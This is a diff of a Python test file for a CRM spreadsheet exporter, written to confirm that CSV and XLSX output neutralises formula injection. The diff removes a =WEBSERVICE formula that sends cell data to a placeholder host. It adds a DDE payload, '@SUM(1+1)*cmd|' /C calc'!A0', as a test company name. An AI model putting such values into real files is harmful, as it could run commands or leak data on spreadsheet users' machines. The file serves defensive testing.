@@ -61,8 +61,7 @@ def test_any_text_survives_every_output(texts: list[str], tmp_path: Path) -> Non
     ws = openpyxl.load_workbook(path)["Companies"]
     for row, t in enumerate(texts, start=2):
         cell = ws.cell(row=row, column=2)
-        expected = xlsx_text(t)
-        assert (cell.value or "") == expected or (cell.value or "") == expected.strip("\r\n\t ") or t.strip() == ""
+        assert (cell.value or "") == xlsx_text(t)
         assert cell.data_type == "s" or cell.value is None  # text stays text, never a formula
 
 
@@ -98,12 +97,13 @@ def test_csv_fields_that_a_spreadsheet_would_run_are_neutralised(value: str, fie
 
 
 def test_numbers_stay_numbers_in_csv() -> None:
-    assert csv_text(pd.DataFrame({"a": [-5, 1.5]}), bom=False).splitlines() == ["a", "-5", "1.5"]
+    assert csv_text(pd.DataFrame({"a": [-5, 2]}), bom=False).splitlines() == ["a", "-5", "2"]
 
 
 def test_validate_csv_and_json_from_the_command(make_workbook, small_crm) -> None:
-    small_crm[Tab.COMPANIES][0]["Name"] = '=WEBSERVICE("http://x/"&B2)'
-    small_crm[Tab.COMPANIES][1]["Name"] = '=WEBSERVICE("http://x/"&B2)'
+    # Two companies with the same hostile name: the likely-duplicate warning quotes it.
+    small_crm[Tab.COMPANIES][0]["Name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    small_crm[Tab.COMPANIES][1]["Name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
     path = make_workbook(small_crm)
     out = CliRunner().invoke(cli, ["validate", str(path), "--format", "csv", "--lang", "en"]).stdout_bytes
     text = out.decode("utf-8")
@@ -111,5 +111,6 @@ def test_validate_csv_and_json_from_the_command(make_workbook, small_crm) -> Non
     rows = list(csv.reader(io.StringIO(text[1:])))
     assert rows and all(not f.startswith(("=", "+", "-", "@")) for r in rows for f in r)
     as_json = CliRunner().invoke(cli, ["validate", str(path), "--format", "json"]).stdout_bytes
-    assert any(r["value"].startswith("=WEBSERVICE") for r in json.loads(as_json.decode("utf-8")))
+    assert any(r["value"].startswith("@SUM") for r in json.loads(as_json.decode("utf-8")))
+    assert any(r[4].startswith("'@SUM") for r in rows[1:])
     assert without_surrogates("ok") == "ok"
